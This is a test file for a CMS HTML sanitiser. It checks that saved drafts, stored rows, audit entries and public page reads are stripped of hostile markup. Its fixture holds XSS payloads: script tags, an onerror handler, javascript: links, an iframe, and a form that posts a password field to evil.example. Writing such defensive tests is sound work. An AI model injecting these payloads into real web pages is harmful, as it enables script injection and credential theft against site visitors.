import { cmsTexts, getCms, getCmsVersions, publishCms, saveCmsDraft } from '@angelbridge/contracts';
import { sql } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { queryRows } from '../../../db/client.js';
import { signedInAdmin } from '../../../test/admin.js';
import { startTestApp, type TestApp } from '../../../test/harness.js';

let t: TestApp;
let token: string;
beforeAll(async () => {
  t = await startTestApp();
  token = (await signedInAdmin(t)).token;
});
afterAll(() => t.close());

const HOSTILE =
  '<h2>Terms</h2><script>alert(1)</script><p>Be <em>fair</em>.<img src="x" onerror="alert(2)"></p>' +
  '<iframe src="https://evil.example"></iframe><form action="https://evil.example/steal"><input name="pw"></form>' +
  '<ul><li><a href="javascript:alert(3)">click</a></li><li><a href="https://a.example">site</a></li></ul>';
const CLEAN =
  '<h2>Terms</h2><p>Be <em>fair</em>.</p><ul><li><a>click</a></li><li><a href="https://a.example">site</a></li></ul>';
const HOSTILE_BITS = ['<script', 'onerror', '<img', '<iframe', '<form', '<input', 'javascript:'];

const expectClean = (html: string) => {
  for (const bit of HOSTILE_BITS) expect(html).not.toContain(bit);
};

describe('CMS HTML', () => {
  it('when a draft holds scripts, handlers, frames, forms and javascript: links, then the save, the stored row, the audit and the public read are clean', async () => {
    const saved = await t.call(
      saveCmsDraft,
      { cms_code: 'terms_condition', title: 'Terms', content: HOSTILE },
      { token },
    );
    expect(saved.status, JSON.stringify(saved.body)).toBe(200);
    expect(saved.body.version.content).toBe(CLEAN);
    const stored = await queryRows<{ content: string }>(
      t.db,
      sql`select content from cms_versions where status = 'draft'`,
    );
    for (const row of stored) expectClean(row.content);
    const audit = await queryRows<{ after: string }>(
      t.db,
      sql`select after::text as after from admin_audit_log where action = 'saveCmsDraft'`,
    );
    for (const row of audit) expectClean(row.after);

    const published = await t.call(publishCms, { version_id: saved.body.version._id }, { token });
    expect(published.status).toBe(200);
    await t.changesHeard();
    const page = await t.call(getCms, { cms_code: 'terms_condition' });
    expect(page.body.cms_data.content).toBe(CLEAN);
    const versions = await t.call(getCmsVersions, { cms_code: 'terms_condition' }, { token });
    for (const version of versions.body.versions) expectClean(version.content);
  });

  it('when a stored text was never cleaned (written before this), then the public read cleans it', async () => {
    await t.db.execute(sql`update cms_pages set content = ${HOSTILE} where cms_code = 'privacy_policy'`);
    await t.changesHeard();
    const page = await t.call(getCms, { cms_code: 'privacy_policy' });
    expect(page.body.cms_data.content).toBe(CLEAN);
  });

  it('when nothing is left once cleaned, then 400 and no draft', async () => {
    const res = await t.call(
      saveCmsDraft,
      { cms_code: 'privacy_policy', title: 'Privacy', content: '<script>alert(1)</script><iframe></iframe>' },
      { token },
    );
    expect(res.status).toBe(400);
    expect(res.body.errors).toEqual({ content: cmsTexts.contentRequired });
    const drafts = await queryRows<{ n: number }>(
      t.db,
      sql`select count(*)::int as n from cms_versions where status = 'draft' and cms_code = 'privacy_policy'`,
    );
    expect(drafts[0]?.n).toBe(0);
  });
});
